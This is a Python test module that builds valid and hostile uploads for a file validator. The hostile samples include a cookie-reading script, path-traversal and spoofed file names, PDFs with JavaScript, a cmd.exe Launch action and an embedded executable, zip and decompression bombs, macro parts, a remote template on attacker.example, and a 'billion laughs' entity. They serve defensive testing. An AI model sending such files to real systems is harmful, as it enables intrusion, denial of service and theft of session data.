"""Builders for valid and hostile uploads, shared by every test that sends files.

Each builder returns the file's bytes; `write` puts them on disk. Import as
`tests.unit.filecheck.corpus`.
"""

from __future__ import annotations

import hashlib
import io
import os
import struct
import zipfile
import zlib
from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

HTML_PAGE = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>\n"
EXE_HEADER = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8"
    + b"\x00" * 43
    + b"\x80\x00\x00\x00"
    + b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21"
    + b"This program cannot be run in DOS mode.\r\r\n$"
    + b"\x00" * 64
    + b"PE\x00\x00"
)
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

PATH_TRAVERSAL_NAME = "../../../etc/cron.d/evil.pdf"
WINDOWS_TRAVERSAL_NAME = "..\\..\\Windows\\System32\\license.pdf"
RTL_OVERRIDE_NAME = "license\u202efdp.exe"  # displays as "licenseexe.pdf"
LONG_NAME = "a" * 300 + ".pdf"

_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    "{extra}</Types>"
)
_PACKAGE_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)
_DOCUMENT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>Curriculum vitae</w:t></w:r></w:p></w:body></w:document>"
)
_DOCUMENT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    "{relationships}</Relationships>"
)


def write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def sha256_hex(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


# --- PDF ---------------------------------------------------------------------------


def _save(pdf: pikepdf.Pdf, **options: object) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)  # type: ignore[arg-type]
    return out.getvalue()


def _one_page_pdf(pad_to: int = 0) -> pikepdf.Pdf:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(612, 792))
    page = pdf.pages[0]
    page.Contents = pdf.make_stream(b"BT /F1 12 Tf 72 720 Td (Medical license) Tj ET")
    page.Resources = Dictionary(
        Font=Dictionary(F1=Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    )
    if pad_to > 0:
        # A scanned page: an uncompressed image of random pixels sized to reach pad_to.
        side = max(1, int((pad_to / 3) ** 0.5))
        image = pdf.make_stream(os.urandom(side * side * 3))
        image.Type = Name.XObject
        image.Subtype = Name.Image
        image.Width = side
        image.Height = side
        image.ColorSpace = Name.DeviceRGB
        image.BitsPerComponent = 8
        page.Resources.XObject = Dictionary(Im1=image)
        page.Contents = pdf.make_stream(b"q 612 0 0 792 0 0 cm /Im1 Do Q")
    return pdf


def valid_pdf(pad_to: int = 0) -> bytes:
    """A one-page PDF; `pad_to` bytes of scanned-image data make it about that large."""
    return _save(_one_page_pdf(pad_to), compress_streams=False)


def valid_linearized_pdf() -> bytes:
    """Linearized ("fast web view"): two cross-reference sections and two %%EOF."""
    return _save(_one_page_pdf(), linearize=True)


def valid_pdf_from_pillow() -> bytes:
    """Written by another producer than qpdf: a scanned page as Pillow saves it."""
    out = io.BytesIO()
    Image.new("RGB", (850, 1100), (250, 250, 245)).save(out, "PDF", resolution=100.0)
    return out.getvalue()


def pdf_carrying(payload: bytes) -> bytes:
    """A valid PDF whose page content holds `payload` as a comment, uncompressed."""
    pdf = _one_page_pdf()
    page = pdf.pages[0]
    comment = pdf.make_stream(b"% " + payload.replace(b"\n", b" ") + b"\n")
    page.Contents = Array([page.Contents, comment])
    return _save(pdf, compress_streams=False)


def pdf_without_pages() -> bytes:
    return _save(pikepdf.new())


def pdf_header_then_garbage() -> bytes:
    return b"%PDF-1.7\n" + os.urandom(2048) + b"\n%%EOF\n"


def truncated_pdf() -> bytes:
    data = valid_pdf()
    return data[: len(data) * 2 // 3]


def encrypted_pdf(user_password: str = "") -> bytes:
    """Encrypted with an owner password; readers open it without asking when the user
    password is empty, which is exactly why it must still be refused."""
    encryption = pikepdf.Encryption(owner="owner-secret", user=user_password)
    return _save(_one_page_pdf(), encryption=encryption)


def pdf_with_javascript_in_object_stream() -> bytes:
    pdf = _one_page_pdf()
    action = pdf.make_indirect(
        Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String("app.alert('hi')"))
    )
    pdf.Root.OpenAction = action
    return _save(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def pdf_with_launch_annotation() -> bytes:
    pdf = _one_page_pdf()
    link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([0, 0, 100, 100]),
        A=Dictionary(S=Name.Launch, F=String("cmd.exe")),
    )
    pdf.pages[0].Annots = Array([pdf.make_indirect(link)])
    return _save(pdf)


def pdf_with_page_additional_action() -> bytes:
    pdf = _one_page_pdf()
    pdf.pages[0].AA = Dictionary(O=Dictionary(S=Name.URI, URI=String("https://example.com")))
    return _save(pdf)


def pdf_with_embedded_file() -> bytes:
    pdf = _one_page_pdf()
    pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, EXE_HEADER)
    return _save(pdf)


def pdf_with_xfa_form() -> bytes:
    pdf = _one_page_pdf()
    xfa = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=xfa)
    return _save(pdf)


def pdf_with_javascript_name_tree() -> bytes:
    pdf = _one_page_pdf()
    script = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("this.print()")))
    names = Dictionary(Names=Array([String("init"), script]))
    pdf.Root.Names = Dictionary(JavaScript=pdf.make_indirect(names))
    return _save(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def pdf_with_zip_appended() -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("payload.html", HTML_PAGE)
    return valid_pdf() + archive.getvalue()


def pdf_with_leading_html() -> bytes:
    return HTML_PAGE + valid_pdf()


def pdf_with_leading_bytes() -> bytes:
    """Still sniffed as PDF (libmagic looks a little past the start) and read by qpdf
    without a warning, yet other programs see whatever the prefix is."""
    return b"JUNK\n" + valid_pdf()


# --- images ------------------------------------------------------------------------


def valid_jpeg(width: int = 64, height: int = 48) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), (200, 30, 30)).save(out, "JPEG", quality=85)
    return out.getvalue()


def valid_png(width: int = 64, height: int = 48) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), (30, 30, 200)).save(out, "PNG")
    return out.getvalue()


def jpeg_followed_by_html() -> bytes:
    return valid_jpeg() + HTML_PAGE


def png_followed_by_html() -> bytes:
    return valid_png() + HTML_PAGE


def truncated_jpeg() -> bytes:
    data = valid_jpeg(256, 256)
    return data[: len(data) // 2]


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    crc = zlib.crc32(kind + body) & 0xFFFFFFFF
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)


def png_decompression_bomb(width: int = 100_000, height: int = 100_000) -> bytes:
    """Declares width x height pixels (10 gigapixels by default) in a file of a few
    hundred bytes: decoding it would need tens of gigabytes of memory."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    compressor = zlib.compressobj(9)
    pixels = compressor.compress(b"\x00" * 65536) + compressor.flush()
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", pixels)
        + _png_chunk(b"IEND", b"")
    )


# --- DOCX --------------------------------------------------------------------------


def _docx(
    *,
    extra_parts: dict[str, bytes] | None = None,
    content_type_overrides: str = "",
    document_relationships: str = "",
    document: str = _DOCUMENT,
    compression: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES.format(extra=content_type_overrides))
        archive.writestr("_rels/.rels", _PACKAGE_RELS)
        archive.writestr("word/document.xml", document)
        if document_relationships:
            archive.writestr(
                "word/_rels/document.xml.rels",
                _DOCUMENT_RELS.format(relationships=document_relationships),
            )
        for name, data in (extra_parts or {}).items():
            archive.writestr(name, data)
    return out.getvalue()


def valid_docx() -> bytes:
    return _docx()


def docx_zip_bomb(uncompressed_bytes: int = 8 * 1024 * 1024) -> bytes:
    """One highly compressible entry: a few kilobytes that inflate to megabytes."""
    return _docx(extra_parts={"word/media/padding.bin": b"\x00" * uncompressed_bytes})


def docx_with_lying_sizes() -> bytes:
    """A zip bomb whose central directory declares its big entry as 1,000 bytes."""
    data = bytearray(docx_zip_bomb())
    name = b"word/media/padding.bin"
    entry = -1
    position = 0
    while (position := data.find(b"PK\x01\x02", position)) >= 0:
        name_length = int.from_bytes(data[position + 28 : position + 30], "little")
        if data[position + 46 : position + 46 + name_length] == name:
            entry = position
            break
        position += 4
    assert entry >= 0
    data[entry + 24 : entry + 28] = (1000).to_bytes(4, "little")
    return bytes(data)


def docx_with_too_many_entries(count: int = 1200) -> bytes:
    return _docx(extra_parts={f"word/parts/p{index}.txt": b"x" for index in range(count)})


def docx_with_macro() -> bytes:
    override = (
        '<Override PartName="/word/vbaProject.bin" '
        'ContentType="application/vnd.ms-office.vbaProject"/>'
    )
    return _docx(
        extra_parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504},
        content_type_overrides=override,
    )


def docx_with_macro_enabled_content_type() -> bytes:
    """A .docm renamed .docx: no vbaProject part listed, but a macro-enabled type."""
    override = (
        '<Override PartName="/word/settings.xml" '
        'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
    )
    return _docx(content_type_overrides=override)


def docx_with_external_relationship() -> bytes:
    """A remote template: Word fetches it when the document opens."""
    relationship = (
        '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/'
        '2006/relationships/attachedTemplate" Target="https://attacker.example/t.dotm" '
        'TargetMode="External"/>'
    )
    return _docx(document_relationships=relationship)


def docx_with_doctype() -> bytes:
    """An entity-expansion ("billion laughs") document part."""
    document = (
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        "<w:body><w:p><w:r><w:t>&lol2;</w:t></w:r></w:p></w:body></w:document>"
    )
    return _docx(document=document)


def docx_without_document_part() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES.format(extra=""))
        archive.writestr("notes.txt", "hello")
    return out.getvalue()


# --- other -------------------------------------------------------------------------


def exe_renamed() -> bytes:
    return EXE_HEADER + b"\x00" * 512


def html_page() -> bytes:
    return HTML_PAGE
